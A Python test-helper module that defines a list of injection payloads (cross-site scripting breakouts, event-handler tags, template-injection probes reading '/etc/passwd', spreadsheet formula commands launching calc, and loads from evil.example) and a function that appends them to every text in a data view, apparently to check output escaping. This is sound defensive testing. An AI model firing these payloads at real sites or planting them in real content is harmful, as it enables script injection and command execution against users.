# ruff: noqa: E501
"""Hostile strings, and a view in which every text carries them."""

from __future__ import annotations

import copy
import re
from dataclasses import fields, is_dataclass
from datetime import date
from enum import Enum
from itertools import count
from typing import Any

_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onanimationstart",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "math",
    "marquee",
    "iframe",
)
_BREAKOUTS = (
    "</script><script>alert(1)</script>", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "'><script>alert(1)</script>",
    '"><script>alert(1)</script>', "</textarea><script>alert(1)</script>", "<!--<script>alert(1)//", "<![CDATA[<b>]]>",
    "</svg><script>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example>", "<embed src=//evil.example>", "<form action=//evil.example><button>x",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<style>@import '//evil.example/x.css';</style>", "<img src=//evil.example/x.png>", "url(//evil.example/x)",
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{ ''.__class__.__mro__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\\u003cscript\\u003ealert(1)", "%3Cscript%3E",
    "<scr\x00ipt>alert(1)</script>", "<scr\u200bipt>alert(1)</script>", "\u202e<script>alert(1)</script>",
    "\u2028alert(1)\u2029", "\ufeff<script>", "\x1b]0;title\x07", "\x08\x08\x08", "\ud800", "\udfff<script>", "\U000e0041",
    "＜script＞alert(1)＜/script＞", "<ſcript>alert(1)</ſcript>", "`onmouseover=alert(1)`", "x' autofocus onfocus=alert(1) y='",
    'x" autofocus onfocus=alert(1) y="', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\t=1+1", "\r=1+1",
    "<xmp><script>alert(1)</script></xmp>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<select><style></select><script>alert(1)</script>",
    "<frameset onload=alert(1)>", "<isindex action=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><foreignObject><iframe src=//evil.example>",
    "<svg><use href=//evil.example/#x>", "<svg><image href=//evil.example/x.png>", "<a ping=//evil.example href=#>x</a>",
)  # fmt: skip
PAYLOADS = (
    *_BREAKOUTS,
    *(f"<{name} {event}=alert(1)>" for name in _TAGS for event in _EVENTS),
)
_IDS = re.compile(r"[0-9a-f]{16}\Z|[0-9a-f]{64}\Z")
_NEEDED = {"zone", "language"}


def _is_date(text: str) -> bool:
    try:
        date.fromisoformat(text[:10])
    except ValueError:
        return False
    return True


def poisoned(value: Any, texts: tuple[str, ...], *, kinds: bool = False) -> Any:
    """A copy of a view in which every text is followed by one of `texts`.

    Equal texts get equal endings, so that keys still point at what they name. Content ids, dates
    and zones stay; `kind` fields too, unless `kinds`.
    """
    turn = count()
    made: dict[str, str] = {}

    def text_of(text: str) -> str:
        if not text or _IDS.match(text) or _is_date(text):
            return text
        if text not in made:
            made[text] = f"{text} {texts[next(turn) % len(texts)]}"
        return made[text]

    def visit(one: Any, name: str = "") -> Any:
        if isinstance(one, Enum):
            return one
        if isinstance(one, str):
            return one if name in _NEEDED or (name == "kind" and not kinds) else text_of(one)
        if isinstance(one, tuple):
            return tuple(visit(item, name) for item in one)
        if is_dataclass(one) and not isinstance(one, type):
            twin = copy.copy(one)
            for field in fields(one):
                object.__setattr__(twin, field.name, visit(getattr(one, field.name), field.name))
            return twin
        return one

    return visit(value)
